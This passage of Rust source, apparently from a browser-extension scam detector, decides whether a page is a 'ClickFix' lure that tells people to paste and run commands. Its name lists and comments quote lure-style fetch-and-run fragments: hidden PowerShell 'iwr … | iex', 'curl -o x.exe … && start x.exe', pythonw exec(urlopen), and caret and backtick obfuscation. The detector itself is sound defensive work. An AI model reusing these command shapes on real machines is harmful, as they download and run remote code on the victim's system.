            && matches!(*v, "iwr" | "invoke-webrequest")
            // ASCII (the whole line, as `flatten` left it: quotes and escapes are out): no
            // look-alike dot or `%`-escape.
            && f.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b" .-_\\/:;,?=#~$".contains(&b))
            && !has(addr, "..")
            && !has(addr, "\\")
            && !has(addr, "$")
            && !borrowed(addr)
            && (Site::new(&host_of(url)).own_label().is_some_and(owns)
                || addr
                    .strip_prefix("github.com/")
                    .or(addr.strip_prefix("gitlab.com/"))
                    .is_some_and(owns))
            // A local path (`.\x.exe`, `$env:TEMP\x.exe`): no share, protocol or variable.
            && !path.starts_with('\\')
            && !has(path, "\\\\")
            && !has(path, ":")
            && !has(path, "/")
            && !has(path, "$")
            // The saved path itself (or without its `.\`: `msiexec /i setup.msi`), never a part of it
            // (`-OutFile x\\host\s\r.exe; Start-Process \\host\s\r.exe`: review 31 CF-H1), started
            // by itself or msiexec, with install flags.
            && run.iter().all(|t| {
                t == file
                    || file.strip_prefix(".\\") == Some(*t)
                    || has_word(
                        "msiexec msiexec.exe -filepath -wait -argumentlist /i /qn /quiet /passive /norestart",
                        t,
                    )
            })
            && self.shows(command)
            && self.install_prose()
            && !self.lure_topic()
    }

    /// The page names a video, a film or a meeting: a lure's reason to install a player or a
    /// plugin (review 29 CP-M1).
    #[inline(never)]
    fn lure_topic(&self) -> bool {
        has_any(
            &self.flat,
            "video vídeo vidéo film movie watch meeting réunion reunión besprechung película \
             vergadering reunião riunione",
        )
    }

    /// Install documentation, not a lure: the page documents an installation (or shows the
    /// command it copies) and dresses it as nothing else: no verification, no error, repair,
    /// missing update or file to open, no infection or system screen.
    fn documents_install(&self, command: &Command) -> bool {
        let framed = self.weight(Cat::InstallDocs) >= 1.0
            || self.shows(command)
                && (!command.installs_package() || self.explains_msiexec(command));
        // "Verification steps" alone is how docs say "check the download"; with "captcha" or
        // a human check it is the lure's.
        let verify = self.weight(Cat::VerifyHuman) >= 1.0;
        framed && !verify && self.story().next().is_none()
    }

    /// The story a lure tells around its command: a repair, a missing update, a file to open, an
    /// error, a system screen, or an infection on the reader's machine ("Trojan detected on this
    /// PC"; "an open-source malware scanner" names a product). Problems set aside are not told.
    /// The page says something is missing ("the missing viewer component", „fehlende
    /// Komponente“, « composant manquant »), in en de fr es/pt it nl pl.
    fn names_missing(&self) -> bool {
        has_any(
            &self.flat,
            "missing manquant fehlend falta mancant ontbrek brakuj",
        )
    }

    fn story(&self) -> impl Iterator<Item = &Hit> {
        self.hits.iter().filter(|h| self.tells(h))
    }

    /// Whether `h` tells the lure's story (out of line: `story` is read in six places).
    #[inline(never)]
    fn tells(&self, h: &Hit) -> bool {
        let told = match h.cat {
            Cat::FixPretext | Cat::PageFailure | Cat::Error | Cat::System => true,
            Cat::Infection => self
                .of(Cat::Victim)
                .any(|v| v.start.max(h.start) - v.end.min(h.end) <= CLAIM_REACH),
            _ => false,
        };
        told && !self.aside(h)
    }

    /// A problem the page describes rather than claims: under a troubleshooting heading that
    /// comes after the steps and a little before it (docs put that section after the install
    /// steps; a lure's "Home | FAQ" menu comes first), or after "if" / "si" / "wenn" in
    /// its own clause ("if the command is not working, …"; "if you see this message, your
    /// browser is out of date" claims it).
    fn aside(&self, h: &Hit) -> bool {
        let steps_before = |t: &Hit| {
            self.hits.iter().any(|s| {
                matches!(s.cat, Cat::PasteStep | Cat::RunDialog | Cat::RunTerminal)
                    && s.end <= t.start
            })
        };
        let under_heading = self
            .of(Cat::Troubleshooting)
            .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH && steps_before(t));
        under_heading
            || self.of(Cat::Conditional).any(|c| {
                c.end <= h.start
                    && h.start - c.end <= CONDITION_REACH
                    && self.base.get(c.end..h.start).is_some_and(|between| {
                        !between
                            .contains(['.', '!', '?', '\n', '。', '！', '？', ';', ',', '，', '、'])
                    })
            })
    }

    /// A failure the page quotes, asks about or lists as a known issue, not one it claims
    /// (`DeskPlan shows 'Something went wrong'`, "« Impossible d'afficher » : que faire ?"): a
    /// help page's topic. The quote is still open at the failure (a name quoted and closed before
    /// it, 'The "Smile Booking" calendar did not load', claims it: review 34 CF34-M1); the `?`
    /// ends the failure's own clause; a help section's page names its product as what failed
    /// (review 35 CX35-M3); a known-issue or troubleshooting heading lists it (600 bytes).
    /// (Review 34 CF34-M2, a kit's "Known issue:", left: neither the reader named, a version,
    /// nor a help address or the product named tells a KB from a kit, reviews 35 CX35-H1/H3
    /// and 36 CX36-H1.)
    #[inline(never)]
    fn described(&self, h: &Hit) -> bool {
        // Byte-wise: char-array patterns cost a kilobyte of Wasm here.
        let b = self.base.as_bytes();
        let at = h.start.min(b.len());
        let stop = |c: &u8| b".!?\n".contains(c);
        let from = b[..at].iter().rposition(stop).map_or(0, |i| i + 1);
        // Quotes opened and closed from the clause's start: `"`, « », “ ” „ ‘ and 「 」 turn
        // it on or off (German „…“ and »…« as well as English “…”); `'` and ’ open a word, close
        // one, or are an apostrophe (didn't, l’été).
        let mut open = false;
        for i in from..at {
            let p = |k: usize| if k > i { b' ' } else { b[i - k] };
            let word = |c: u8| c.is_ascii_alphanumeric() || c >= 0x80;
            let e2 = p(1) == 0x80 && p(2) == 0xE2;
            match b[i] {
                b'"' => open = !open,
                0xAB | 0xBB if p(1) == 0xC2 => open = !open,
                0x98 | 0x9C | 0x9D | 0x9E if e2 => open = !open,
                0x8C | 0x8D if p(1) == 0x80 && p(2) == 0xE3 => open = !open,
                c @ (b'\'' | 0x99) if c == b'\'' || e2 => {
                    if !word(p(if c == b'\'' { 1 } else { 3 })) {
                        open = true;
                    } else if !word(b.get(i + 1).copied().unwrap_or(b' ')) {
                        open = false;
                    }
                }
                _ => {}
            }
        }
        // The failure's clause ends at the next stop or comma.
        let to = b
            .get(h.end..)
            .and_then(|r| r.iter().position(|c| b".!?,;\n".contains(c)))
            .map_or(b.len(), |i| h.end + i);
        // A help section's page naming its product (the site's own name as a word, four letters
        // or more; not "book" in "booking": review 36 CX36-H2) in the failure's clause: "After the 7.2 update "BrightLedger" did not load", „Kassenbuch“:
        // Fehler beim Laden (review 35 CX35-M3); a kit names the page's widget.
        let name = self.site.split('.').next().unwrap_or("");
        open || b.get(to) == Some(&b'?')
            || self.help && name.len() >= 4 && has_word(self.base.get(from..to).unwrap_or(""), name)
            || self
                .of(Cat::Troubleshooting)
                .any(|t| t.end <= h.start && h.start - t.end <= HEADING_REACH)
            // Others' machines it happened on, in its clause ("did not load for some customers",
            // "bei einigen Kunden nicht richtig geladen"): a vendor's report; a kit's widget fails
            // now, on the reader's screen (review 37 CX37-H1).
            || self.of(Cat::Scope).any(|s| s.start >= from && s.end <= to)
    }

    /// Install words in the page's own prose, not in a file or path name (a lure's `curl
    /// https://…/install.sh | sh` names no installation: review 27).
    #[inline(never)]
    fn install_prose(&self) -> bool {
        let b = self.base.as_bytes();
        let path = |c: Option<&u8>| matches!(c, Some(b'.' | b'/' | b'-' | b'_'));
        let in_name = |h: &&Hit| {
            path(h.start.checked_sub(1).and_then(|i| b.get(i)))
                || path(b.get(h.end)) && b.get(h.end + 1).is_some_and(u8::is_ascii_alphanumeric)
        };
        self.of(Cat::InstallDocs)
            .filter(|h| !in_name(h))
            .map(|h| h.weight)
            .sum::<f32>()
            >= 1.0
    }

    fn of(&self, cat: Cat) -> impl Iterator<Item = &Hit> {
        self.hits.iter().filter(move |h| h.cat == cat)
    }

    /// Whether a half-weight run place ("File Explorer", "the address bar", Ctrl+L) is one of a
    /// pair that names one place: another such phrase within [`RUN_PLACE_PAIR`] bytes. Apart,
    /// they are an IT page's two topics (Explorer here, a browser's address bar there).
    fn paired_place(&self, h: &Hit) -> bool {
        self.of(Cat::RunDialog).any(|o| {
            o.phrase != h.phrase
                && o.weight < 1.0
                && o.start.abs_diff(h.start) <= RUN_PLACE_PAIR
                && !(o.start < h.end && h.start < o.end)
        })
    }

    /// Sum of the weights of distinct phrases of `cat`.
    fn weight(&self, cat: Cat) -> f32 {
        let mut seen = Vec::new();
        let mut w = 0.0;
        for h in self.of(cat) {
            if cat == Cat::RunDialog && h.weight < 1.0 && !self.paired_place(h) {
                continue;
            }
            if !seen.contains(&h.phrase) {
                seen.push(h.phrase);
                w += h.weight;
            }
        }
        w
    }

    fn text(&self, h: &Hit) -> String {
        self.base.get(h.start..h.end).unwrap_or("").to_string()
    }

    fn texts(&self, cat: Cat) -> Vec<String> {
        let mut out: Vec<String> = Vec::new();
        for h in self.of(cat) {
            let t = self.text(h);
            if !out.contains(&t) && out.len() < 4 {
                out.push(t);
            }
        }
        out
    }
}

/// One ClickFix reason added to the verdict and its score (out of line: `apply` adds five).
#[inline(never)]
fn add_reason(verdict: &mut Verdict, id: ReasonId, weight: f32, text: String, sentence: &str) {
    verdict.reasons.push(Reason {
        id,
        group: Group::Clipboard,
        weight,
        detail: Detail::Excerpt { text },
        addressed: true,
        text: sentence.to_string(),
    });
    verdict.score += weight;
}

/// Turns a finding into the verdict: level `scam`, kind `clickfix`, the defanged command and
/// one reason per piece of evidence.
pub fn apply(found: ClickFix, verdict: &mut Verdict) {
    let ClickFix {
        command,
        instructions,
        pretext,
        typed,
        unseen,
    } = found;
    let mut add = |id, weight: f32, text: String, sentence: &'static str| {
        add_reason(verdict, id, weight, text, sentence);
    };
    add(
        if typed {
            ReasonId::TypedCommand
        } else {
            ReasonId::ClipboardCommand
        },
        if command.strong() {
            CLICKFIX_COMMAND_STRONG
        } else {
            CLICKFIX_COMMAND
        },
        first_chars(&command.shown, 60).to_string(),
        if typed {
            english!("The page shows a command to type into your computer.")
        } else {
            english!("The page put a command on the clipboard.")
        },
    );
    if !instructions.is_empty() {
        add(
            ReasonId::RunInstructions,
            CLICKFIX_RUN_INSTRUCTIONS,
            join(&instructions, " … "),
            english!("The page tells you to paste and run it."),
        );
    }
    if let Some(p) = pretext {
        add(
            ReasonId::VerificationPretext,
            CLICKFIX_PRETEXT,
            p,
            english!("The page pretends this is a check that you are human."),
        );
    }
    if unseen {
        add(
            ReasonId::UnseenCommand,
            CLICKFIX_HIDDEN_COMMAND,
            String::new(),
            english!("The page copied a command it does not show you."),
        );
    }
    if command.padded {
        add(
            ReasonId::HiddenCommand,
            CLICKFIX_HIDDEN_COMMAND,
            command.comment.clone(),
            english!("The command hides behind blank space and a comment."),
        );
    }
    verdict.score = (verdict.score * 100.0).round() / 100.0;
    verdict.level = Level::Scam;
    verdict.kind = Kind::Clickfix;
    verdict.command = Some(command.shown);
}

/// Bytes before a key combination's `R` in which a Windows key is named.
const KEY_REACH: usize = 24;
/// Other keys' names, as the skeleton writes them (`l` folded to `i`: "ctrl" is `ctri`): with
/// one of them the `+` joins that key, not the Windows key.
const OTHER_KEYS: &[&str] = &[
    "ctri", "cti", "strg", "ait", "shift", "umschait", "maj", "cmd", "command", "option", "fn",
];

/// The Windows key with R (or X) however the key is named: "Windows button + R",
/// "Windows-Taste+R", "⊞ key and R", "hold ⊞ Win and press R". The lexicon lists the usual
/// names; kits word the key in every way, so the combination is read by its shape: a word
/// starting with `win` (or `⊞`) at most [`KEY_REACH`] bytes before a lone `r`/`x` after a `+`,
/// or a lone `r` after "and" / "and press" with the key named as one.
fn key_combos(skel: &str) -> Vec<Hit> {
    let b = skel.as_bytes();
    let mut out = Vec::new();
    for (i, &c) in b.iter().enumerate() {
        if !matches!(c, b'r' | b'x') || b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) {
            continue;
        }
        let before = &skel[..i];
        let and = c == b'r' && (before.ends_with(" and ") || before.ends_with(" and press "));
        let mut from = i.saturating_sub(KEY_REACH);
        while !skel.is_char_boundary(from) {
            from += 1;
        }
        let near = &skel[from..i];
        let logo = has(near, "⊞");
        // The key named from `j` on: `⊞`, or `win` starting a word that is `win`, `windows…` or
        // `winkey` ("window", "winter", "winget" are words); nothing between it and the `+`
        // that ends a clause or names another key ("On Windows, press Ctrl + R", "In Windows
        // Terminal Ctrl + R"). Byte-wise: a substring searcher costs Wasm.
        let nb = near.as_bytes();
        let key = (0..nb.len()).any(|j| {
            let rest = &nb[j..];
            let word = rest.starts_with(b"win")
                && (j == 0 || !nb[j - 1].is_ascii_alphabetic())
                && (!rest.get(3).is_some_and(u8::is_ascii_alphabetic)
                    || rest[3..].starts_with(b"dows")
                    || rest[3..].starts_with(b"key"));
            (word || rest.starts_with("⊞".as_bytes()))
                && !rest
                    .iter()
                    .any(|b| matches!(b, b',' | b'.' | b';' | b':' | b'!' | b'?'))
                && !["、", "，", "。"].iter().any(|p| has(&near[j..], p))
                && !rest
                    .split(|b| !b.is_ascii_alphanumeric())
                    .any(|w| OTHER_KEYS.iter().any(|k| k.as_bytes() == w))
        });
        // "and R" only with the key named as one ("⊞", "key"): prose says "Windows and R".
        let joined = before.ends_with('+') || and && (logo || has(near, "key"));
        if joined && key {
            out.push(Hit {
                start: from,
                end: i + 1,
                cat: Cat::RunDialog,
                weight: 1.0,
                // One phrase of its own: however many times a page writes it, it counts once.
                phrase: usize::MAX - usize::from(c == b'x'),
            });
        }
    }
    out
}

/// Removes spaces around `+` so that "win + r" reads "win+r". Applied to `base` and `skel`
/// alike: they have the same bytes at every space and `+`, so they stay aligned.
fn join_plus(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    // A run of spaces is held until what follows it is known: dropped next to a `+` (every
    // space of it: "[win] + [r]" reads "win   +  r" once its brackets are gone).
    let mut spaces = 0;
    for c in s.chars() {
        if c == ' ' {
            spaces += 1;
            continue;
        }
        if c != '+' && !out.ends_with('+') {
            push_spaces(&mut out, spaces);
        }
        spaces = 0;
        out.push(c);
    }
    if !out.ends_with('+') {
        push_spaces(&mut out, spaces);
    }
    out
}

/// The verdict half: the copied text is a command AND the page tells the person to run it
/// (or dresses it as a verification, or hides it behind padding).
pub fn assess(clipboard: &str, page: &PageHits) -> Option<ClickFix> {
    assess_command(recognise(clipboard)?, page, false)
}

/// [`assess`] for a snapshot: the page's last clipboard write against its title, text and alt
/// texts. The page text is only normalised again when the copied text is a command.
pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
    if let Some(command) = recognise(&snap.clipboard.text) {
        let found = assess_command(
            command.clone(),
            &page_of(snap, &snap.text, &snap.alt_texts, &[]),
            false,
        );
        if found.is_some() || snap.dialog_texts.iter().all(|t| trim(t).is_empty()) {
            return found;
        }
        // Some kits give the Win+R steps only in an `alert()`. Dialog texts come from the MAIN
        // world, which the page can forge, so they may only add: they are read when the page
        // alone did not make the copy ClickFix, never to take a verdict away.
        let with = page_of(snap, &snap.text, &snap.alt_texts, &snap.dialog_texts);
        return assess_command(command, &with, false);
    }
    // No command copied: a kit may show its command to be typed or pasted by hand, on the page
    // or (forged or not, it can only add) in an `alert()`.
    typed(snap, &snap.text).or_else(|| snap.dialog_texts.iter().find_map(|d| typed(snap, d)))
}

/// A command shown in `text` to be typed by hand. Only a shape no docs give, with run-dialog
/// or Terminal steps and a story (a human check, a fix, an update), on a page that does not
/// talk about scams.
fn typed(snap: &Snapshot, text: &str) -> Option<ClickFix> {
    // (Any site's plain http picks a line here; the page's own is told apart when judged.)
    let (line, command) = typed_lines(text)
        .into_iter()
        .filter_map(|l| Some((l, recognise(l)?)))
        .find(|(_, c)| {
            c.strong() || c.lure_fetch("") > 0 || c.shapes.contains(&Shape::PipeToShell)
        })?;
    // The steps and the story stand around the command: the page is read from 3 KB before it to
    // 1.5 KB after it (with its title), not whole a second time (a 64 KB docs page showing an
    // `iex` doubled the engine's time).
    let at = line.as_ptr() as usize - text.as_ptr() as usize;
    let (mut from, mut to) = (
        at.saturating_sub(TYPED_BEFORE),
        (at + line.len() + TYPED_AFTER),
    );
    to = to.min(text.len());
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    while !text.is_char_boundary(to) {
        to += 1;
    }
    let near = page_of(snap, &text[from..to], &[], &[]);
    assess_command(command, &near, true)
}

/// The page's title, text, alt texts and (when asked) dialog texts, read for ClickFix (one copy
/// in the Wasm). Read only when a command is copied or shown: optimised for size in the Wasm.
#[inline(never)]
#[cfg_attr(hangup_size, optimize(size))]
fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]) -> PageHits {
    let parts = [snap.title.as_str(), text]
        .into_iter()
        .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
    let mut page = PageHits::new(parts).on(&snap.url);
    // Within 1 KB of the bound: the content script stops at a node's edge.
    page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
    page
}

/// Lines of the page's text that may hold a command (a program name no prose uses starts a
/// word in them), at most [`TYPED_LINES`], each cut to 400 bytes from the name on when longer.
fn typed_lines(text: &str) -> Vec<&str> {
    const NAMES: &[&str] = &[
        "powershell",
        "pwsh",
        "mshta",
        "base64",
        "osascript",
        "msiexec",
        "certutil",
        "conhost",
        "bitsadmin",
        "regsvr32",
        "wscript",
        "cscript",
        "iex",
        "irm",
        "iwr",
        // Judged only when they fetch from where no installer publishes (a bare IP, plain http
        // from another site, a share on the internet).
        "cmd",
        "curl",
        "wget",
    ];
    let b = text.as_bytes();
    let mut out: Vec<&str> = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < TYPED_LINES {
        // A name starts a word and ends it (`powershell.exe`, `iex(irm`); carets, backticks and
        // empty quotes inside it only hide it from filters (`m^s^h^t^a`,
        // ``p`o`w`e`r`s`h`e`l`l``, `ms''hta`, `m"sh"ta`), as `recognise` reads them.
        let in_word =
            |c: &u8| c.is_ascii_alphanumeric() || matches!(*c, b'^' | b'`' | b'\'' | b'"');
        let len = b[i..].iter().take_while(|c| in_word(c)).count();
        if len == 0 {
            // No word starts here: on to the next byte that may start one, in one tight loop.
            i += b[i..].iter().position(in_word).unwrap_or(b.len() - i);
            continue;
        }
        // The word's letters lowercased into a small buffer, compared only when they could be a
        // name (3 to 10 letters): each byte of a page in another script compared 15 names.
        let mut word = [0u8; 10];
        let mut k = 0;
        for c in b[i..i + len].iter().filter(|c| c.is_ascii_alphanumeric()) {
            if k == word.len() {
                k = usize::MAX;
                break;
            }
            word[k] = c.to_ascii_lowercase();
            k += 1;
        }
        let len = len.max(1);
        let name = (3..=word.len()).contains(&k)
            && (i == 0 || !b[i - 1].is_ascii_alphanumeric())
            && NAMES.iter().any(|n| n.as_bytes() == &word[..k]);
        if !name {
            i += len;
            continue;
        }
        let start = text[..i].rfind('\n').map_or(0, |j| j + 1);
        let end = text[i..].find('\n').map_or(text.len(), |j| i + j);
        let start = if end - start > 400 { i } else { start };
        let mut stop = end.min(start + 400);
        while !text.is_char_boundary(stop) {
            stop -= 1;
        }
        let line = &text[start..stop];
        if !out.contains(&line) {
            out.push(line);
        }
        i = end.max(i + 1);
    }
    out
}

/// `typed`: the command is one the page shows to be typed by hand (nothing was copied); it
/// needs run-dialog or Terminal steps, a human check or a story, and no word about scams.
/// (Run only on a copied or shown command: optimised for size in the Wasm, as `page_of`.)
#[inline(never)]
#[cfg_attr(hangup_size, optimize(size))]
fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<ClickFix> {
    // A write-up about ClickFix quotes the lure's steps and command, and its code block's copy
    // button copies it: words about the attack, the command shown as copied, nothing hidden.
    // (Words about scams alone are not enough: a kit's own check "protects the site from
    // scammers and phishing bots"; a write-up also names the attack as one.)
    let about = page.weight(Cat::Awareness);
    let write_up = page.weight(Cat::WriteUp) >= 1.0;
    if about >= ABOUT_ATTACK && write_up && page.shows(&command) && !command.padded {
        return None;
    }
    // A shell window named ("open PowerShell") is a run step when the command is kept off the
    // page, as kits keep theirs: a tutorial says it too, above the command it shows.
    // What the person sees is what they paste (an IT page gives a share path for the Run box so).
    let shown = page.shows(&command);
    let run_dialog =
        page.weight(Cat::RunDialog) >= 1.0 || page.weight(Cat::RunShell) >= 1.0 && !shown;
    let terminal = page.weight(Cat::RunTerminal) >= 1.0;
    let paste = page.weight(Cat::PasteStep) >= 1.0;
    // A human check ("verify you are human") is a pretext next to any command; a bare
    // "verification steps" (weighted [`GENERIC_VERIFY`]) only next to one no install page gives:
    // docs write it about checking a download.
    let verify = page
        .of(Cat::VerifyHuman)
        .map(|h| h.weight)
        .fold(0.0f32, f32::max);
    let install_like = command.install_like(page);
    // With a CAPTCHA named next to it, "verification steps" is the check's own.
    let page_pretext = verify >= 1.0
        || verify >= GENERIC_VERIFY && (page.weight(Cat::VerifyHuman) >= 1.0 || !install_like);
    // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
    // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
    // are documentation; a lure always adds its story (verify, fix, update, open the file).
    // A download run kept off the page (neither the command nor how it starts shown) from
    // another site than the page's: a fake download's "to install, press Win+R and paste" or
    // "open Terminal and paste", which needs no story. Docs, help pages and tutorials show what
    // their copy button copies.
    // (A vendor's copy button for its installer on domains its name owns is read as before.)
    let kept_off = !typed
        && (run_dialog || terminal)
        && !page.cut
        && command.remote
        && !command.fetches_from_site(&page.site)
        && !command.fetches_from_owned(&page.site)
        // (`msiexec /i https://…` alone is how IT pages deploy an agent: review 35 CX35-H2; a
        // kit's installs a component it says is missing, off a help address: thirty-eighth
        // session.)
        && (!command.shapes.iter().all(|s| *s == Shape::MsiexecUrl)
            || page.names_missing() && !page.help)
        // (How it starts, and the sites it fetches from: a kit prints 32 bytes in tiny text.)
        && !(page.shows_head(&command) && command.https_sites.iter().all(|s| has(&page.flat, s)));
    let docs = install_like && !kept_off && page.documents_install(&command);
    // An IT help or vendor support page tells a story too ("Teams audio not working? To fix
    // it, press Win+X …"), but shows the very command it copies and fetches nothing, or only
    // from its own site; a lure hides its command or fetches from elsewhere. A kit on its own
    // domain shows and fetches from there too: a download run from the page's site is help only
    // with documentation around it, or a problem asked about, not an error claimed ("Error:
    // this document could not be displayed").
    let install_words = page.weight(Cat::InstallDocs) >= 1.0;
    // The page's own failure claimed ("the calendar did not load correctly", "Erreur lors du
    // chargement"): a kit on a broken-into site serving its script from the site's root,
    // `/static/` or `/download/`, whatever install words it adds; a help page fixes the
    // reader's software.
    let own_fetch = command.fetches_from_site(&page.site)
        && page.story().all(|h| match h.cat {
            Cat::PageFailure => page.described(h),
            Cat::Error => install_words,
            _ => true,
        });
    let help = install_like
        && (install_words || !command.installs_package())
        && shown
        && (!command.remote || own_fetch)
        && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
        && page
            .story()
            .all(|h| matches!(h.cat, Cat::FixPretext | Cat::PageFailure | Cat::Error));
    let unc_only = command.shapes.iter().all(|s| *s == Shape::UncOpen);
    // Without a pretext only a share no IT page gives is a lure: WebDAV on another site or a
    // public IP. A named host (the organisation's software share) or the page's own WebDAV
    // share is what IT pages copy.
    let host = unc_host(&command.flat);
    let dav = host.contains('@') || has(&command.flat, "davwwwroot");
    let elsewhere = !own_share(host, &page.site);
    let unc_lure = dav && elsewhere || ip_host(host);
    // A reference page (a sysadmin wiki, a command cheat sheet) shows the very command it
    // copies and tells nothing around it: no human check, no repair, error, update or infection.
    // A lure needs its story to make a person run what it hides.
    let reference = command.reference_like()
        && shown
        && page.weight(Cat::VerifyHuman) < GENERIC_VERIFY
        && page.story().next().is_none();
    // Docs' "verification steps" come after the install steps (check the download); a kit that
    // keeps its command off the page heads its steps with them: the check's own.
    let heads_steps = page.of(Cat::VerifyHuman).any(|v| {
        page.hits
            .iter()
            .any(|s| matches!(s.cat, Cat::PasteStep | Cat::RunTerminal) && s.start >= v.end)
    });
    let hidden_story = !shown && (page.story().next().is_some() || heads_steps) || kept_off;
    // An interpreter's inline code fetching and running (`pythonw -c "exec(urlopen(…))"`, `node
    // -e` fetch + eval) runs on Windows too: under Run-box steps it is a lure when the page keeps
    // it off the page with a story or fetches from another site (review 40 R40-H2); docs show it.
    let interp_run = hidden_story && (fetch_run(&command.flat) || deno_run(&command.flat));
    let windows_run = run_dialog
        && (command.windows_payload() || interp_run)
        && !docs
        && !help
        && !reference
        && !(unc_only && (shown || !unc_lure) && !page_pretext && !command.comment_pretext);
    // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
    // Terminal"); a strong shape outside install docs makes them ClickFix. `curl … | sh` only
    // with a story (a browser update, a failed check; not docs' "verification steps") AND the
    // command kept off the page: kits hide it, while docs and how-tos ("How to fix 'command not
    // found'") show what they copy.
    let mac_run = terminal
        && paste
        && !docs
        && command.shapes.iter().any(|s| {
            s.platform() == Platform::Unix
                && (s.strong() || *s == Shape::PipeToShell && hidden_story)
        });
    let pretext = page_pretext || command.comment_pretext;
    let told = verify >= 1.0 || page.story().next().is_some();
    let shell_named = page.weight(Cat::RunShell) >= 1.0;
    // What a lure copies and no page shows: a command fetching from where no installer publishes
    // (a bare IP, plain http from another site, a share on the internet) or hiding its script,
    // put on the clipboard while the page shows something else or nothing (steps drawn in an
    // image, "type cmd, right-click to paste" in a language without a word list). A Windows
    // command fetching from a bare IP or another site's WebDAV share is enough alone; the rest needs
    // a step, a check or a story around it. A page that shows what it copies (docs, a write-up's
    // code block) is read as before.
    let fetch = command.lure_fetch(&page.site);
    // (A hidden or encoded script fetching only over https is not enough: a docs page's hidden
    // tab copies `powershell -WindowStyle Hidden -Command "iwr https://…/install.ps1 | iex"`.
    // A page cut at the snapshot's bound may show the command past it: review 25 M1.)
    // Steps drawn in a picture on a page of a few words that say only "Just a moment...",
    // "Verify" or nothing: a hidden-window PowerShell download run, or a Unix download run, from
    // another site is ClickFix on its own evidence (review 40 R40-H2). A vendor's terse "Deploy
    // agent" page says what it copies: no check word (review 40 CF40-M1).
    // (mshta, regsvr32 or a script host fetching from the internet: no vendor's page copies
    // those, so a bare "verify" or "check" word is enough: review 41 R41-H2's image-only mshta;
    // an IT "Tools" page's HTA from an https host stays silent.)
    let lolbin = command.shapes.iter().any(|s| {
        matches!(
            s,
            Shape::MshtaUrl | Shape::Regsvr32Url | Shape::ScriptHostUrl
        )
    });
    // (A self-hosted server's page on its own address copies from there.)
    let own_ip = page.site.len() > 3 && has(&command.flat, &page.site);
    let hidden_run = command.shapes.contains(&Shape::PowerShellHidden)
        && command.shapes.contains(&Shape::PowerShellDownload);
    // A page whose visible text is one word, its button ("Weiter", "Continuer", "次へ", even
    // "Copy"), the steps in a picture or nowhere, copying what it does not show: a hidden-window
    // download run, or a program saved and started (`curl -o x.exe … && start x.exe`, `curl … |
    // cmd`), from another site's unnamed path (review 44 R44-H3). A vendor's lone "Setup" or
    // "Deploy" button fetches a named `.ps1`/`.msi` (`published`); a page of two words is a
    // portal's heading and its button (review 43 CF43-H1), a tool's "Tools" page copies a plain
    // `iwr … | iex`.
    // Forty-sixth session: an encoded script (`powershell -e …`, whatever it fetches); and,
    // when a word is said and it is no Copy button (a docs widget's frame copies its installer
    // so), a plain download run (`irm … | iex`, `msiexec /i https://…`, `curl … | bash`,
    // `osascript`) from another site's unnamed path: "Continue", "Überprüfen".
    let encoded = command
        .shapes
        .iter()
        .any(|s| matches!(s, Shape::PowerShellEncoded | Shape::Base64Shell));
    // (An icon's frame says nothing: a word, and no Copy word, nor one naming what the page
    // offers to run: a "Tools" or "Downloads" page.)
    let named = page.said
        && !has_any(&page.flat, COPY.get())
        && !has_any(&page.flat, OFFERS)
        && !has_word(&page.flat, "run");
    let unasked = page.lone
        && (encoded
            || !command.published
                && command.shapes.iter().any(|s| {
                    hidden_run
                        || *s == Shape::DownloadStart
                        || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
                        || named && matches!(s, Shape::PowerShellDownload | Shape::MsiexecUrl)
                })
            // (From another site's path: a Unix installer of a portal or docs names itself.)
            || named
                && !published(&command.flat, true)
                && command.runs_on(Platform::Unix));
    let terse = page.flat.len() <= TERSE_PAGE
        // (From the internet: a join command to a private address is the person's network.)
        && (fetch > 0 || !command.https_sites.is_empty() || unasked && encoded)
        && !command.fetches_from_site(&page.site)
        && !command.fetches_from_owned(&page.site)
        && !own_ip
        && page.weight(Cat::InstallDocs) < 1.0
        && (hidden_run
            || command.runs_on(Platform::Unix)
            || lolbin
            || command.buried
            || unasked)
        && (told
            || unasked
            || verify > 0.0
            || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
            // (Whole words, and a moment only as a wait: a tool's "Robotics SDK", "Ressources
            // humaines" or "Ready in a moment." are no check: review 42 CF42-M1.)
            || has_any(&page.flat, "captcha checking お待ち робот")
            || "robot roboter robotem human humain humano umano mensch"
                .split(' ')
                .any(|w| has_word(&page.flat, w))
            || [
                "just a moment",
                "one moment",
                "wait a moment",
                "un moment",
                "einen moment",
                "un momento",
                "um momento",
            ]
            .iter()
            .any(|p| has(&page.flat, p))
            // (A device "verification" page of an MDM may copy its agent from a CDN over https:
            // the bare word only with a bare IP or plain http, or for mshta and the like, which
            // no vendor copies.)
            || (fetch > 0 || lolbin) && CHECKS.get().split('|').any(|w| has(&page.flat, w))
            // A check's status as the page's first line ("Weryfikacja…", "확인 중입니다",
            // "Проверка"), before a hidden-window download from another site, on a page that
            // never says it copies: a gate's status, over https too (review 42 CF42-M2). A
            // portal names what it checks ("Weryfikacja laptopa", "Device verification") or
            // has a Copy button.
            // (A command buried among filler lines hides as a hidden window does: forty-fourth
            // session.)
            || (command.shapes.contains(&Shape::PowerShellHidden) || lolbin || command.buried)
                && page.status
                && !has_any(&page.flat, COPY.get()));
    let unseen = !typed
        && !page.cut
        && (fetch > 0 || command.hides_script() && command.https_sites.is_empty() || terse)
        && !page.shows_head(&command)
        && !write_up
        && (fetch > 1
            && (command.strong()
                || command.windows_payload()
                || paste
                // (A package index on a bare public IP, not the page's own: no project
                // publishes so, review 41 R41-H2.)
                || !own_ip && index_run(&command.flat))
            || terse
            || told
            || verify > 0.0
            || run_dialog
            || terminal
            || shell_named);
